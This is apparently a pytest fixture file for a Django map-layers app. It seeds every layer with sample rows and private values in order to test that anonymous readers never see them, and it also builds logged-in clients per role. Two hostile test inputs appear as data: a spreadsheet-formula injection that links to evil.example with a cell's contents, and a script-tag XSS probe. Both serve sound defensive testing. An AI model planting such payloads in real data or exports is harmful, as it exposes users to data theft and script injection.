"""Small rows in every layer, and clients signed in per role."""

from datetime import UTC, datetime

import pytest
from django.contrib.gis.geos import LineString, MultiLineString, MultiPolygon, Point, Polygon
from django.test import Client

from layers import roles
from layers.cameras.models import Camera
from layers.feedback.models import Complaint
from layers.fire.models import Hotspot
from layers.flood.models import FloodExtent
from layers.parcels.models import Parcel
from layers.places.models import Commune, District, ForestArea, River, Village
from layers.telecom.models import CellTower, CoverageGap, SignalMeasurement, WifiPoint

TOWN = (108.23, 15.35)
# Values no anonymous reader may ever see, looked for verbatim in every response.
SECRETS = ("Nguyễn Văn Chủ", "0905123456", "reporter@example.vn", "rtsp://cam.internal/1", "CELL-SECRET-77", "Pixel-7")
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROLE_NAMES = ("anonymous", *roles.ALL)


def square(x: float, y: float, half: float = 0.002) -> MultiPolygon:
    """A small square multipolygon around a point."""
    return MultiPolygon(Polygon.from_bbox((x - half, y - half, x + half, y + half)), srid=4326)


def at(dx: float = 0.0, dy: float = 0.0) -> Point:
    """A point near the town centre."""
    return Point(TOWN[0] + dx, TOWN[1] + dy, srid=4326)


@pytest.fixture(autouse=True)
def fast_password_hashing(settings):
    """Users are made per test; the production hasher's deliberate slowness is not under test here."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def world(db):
    """One or more rows in every registered layer, private fields filled with SECRETS."""
    t0 = datetime(2024, 3, 1, 8, 0, tzinfo=UTC)
    district = District.objects.create(name="Bắc Trà My", name_en="Bac Tra My", geom=square(*TOWN, 0.2))
    commune = Commune.objects.create(
        district=district, name="Trà My", code="tra-my", kind="town", geom=square(*TOWN, 0.05)
    )
    other = Commune.objects.create(district=district, name="Trà Sơn", code="tra-son", geom=square(108.1, 15.3, 0.05))
    villages = [
        Village.objects.create(commune=commune, name="Tổ 1", households=120, population=480, geom=at(0.001, 0.001)),
        Village.objects.create(commune=commune, name="Tổ 2", households=90, population=350, geom=at(0.003, -0.002)),
        Village.objects.create(
            commune=other, name="Thôn 3", households=60, population=240, has_cultural_house=False, geom=at(-0.13, -0.05)
        ),
    ]
    River.objects.create(name="Sông Trường", geom=MultiLineString(LineString(at(-0.01, 0), at(0.01, 0.01)), srid=4326))
    ForestArea.objects.create(name="Rừng A", geom=square(108.15, 15.25, 0.01))
    CellTower.objects.create(name="BTS Trà My", operator="viettel", technology="4G", cell_id=SECRETS[4], geom=at(0.002))
    CellTower.objects.create(name="BTS VNPT", operator="vnpt", technology="3G", geom=at(-0.002))
    CoverageGap.objects.create(
        operator="viettel", technology="4G", severity="weak", computed_at=t0, geom=square(108.2, 15.3, 0.01)
    )
    WifiPoint.objects.create(name="Wi-Fi Tổ 1", provider="VNPT", village=villages[0], geom=at(0.001, 0.0012))
    Camera.objects.create(name="Cam chợ", kind="security", stream_url=SECRETS[3], last_seen_at=t0, geom=at(0.0005))
    for hours, confidence in ((0, "high"), (24, "nominal"), (48, "low")):
        Hotspot.objects.create(
            source="VIIRS_SNPP_NRT",
            satellite="N",
            instrument="VIIRS",
            acquired_at=t0.replace(day=1 + hours // 24),
            confidence=confidence,
            frp=10.0 + hours,
            geom=at(0.01 + hours / 10000, 0.01),
        )
    Parcel.objects.create(
        map_sheet="12",
        parcel_number="34",
        land_use_code="ODT",
        area_m2=150,
        declared_area_m2=150,
        commune=commune,
        holder_name=SECRETS[0],
        geom=square(*TOWN, 0.0003),
    )
    Parcel.objects.create(
        map_sheet="12",
        parcel_number="35",
        land_use_code="CLN",
        area_m2=90,
        declared_area_m2=90,
        commune=commune,
        address=INJECTION,
        geom=square(TOWN[0] + 0.001, TOWN[1], 0.0003),
    )
    Complaint.objects.create(
        tracking_code="PA-0001",
        category="road",
        description="<script>alert(1)</script> đường hỏng",
        created_at=t0,
        commune=commune,
        reporter_name="Trần Thị B",
        reporter_phone=SECRETS[1],
        reporter_email=SECRETS[2],
        geom=at(0.002, 0.002),
    )
    FloodExtent.objects.create(event="Lũ 10/2024", source_product="S1", observed_at=t0, geom=square(108.2, 15.32, 0.01))
    SignalMeasurement.objects.create(
        operator="viettel", technology="4G", dbm=-105, measured_at=t0, device=SECRETS[5], geom=at()
    )
    return {"commune": commune, "villages": villages, "t0": t0}


@pytest.fixture
def clients(users):
    """A test client per role name, plus "anonymous"."""
    out = {"anonymous": Client()}
    for role, user in users.items():
        client = Client()
        client.force_login(user)
        out[role] = client
    return out
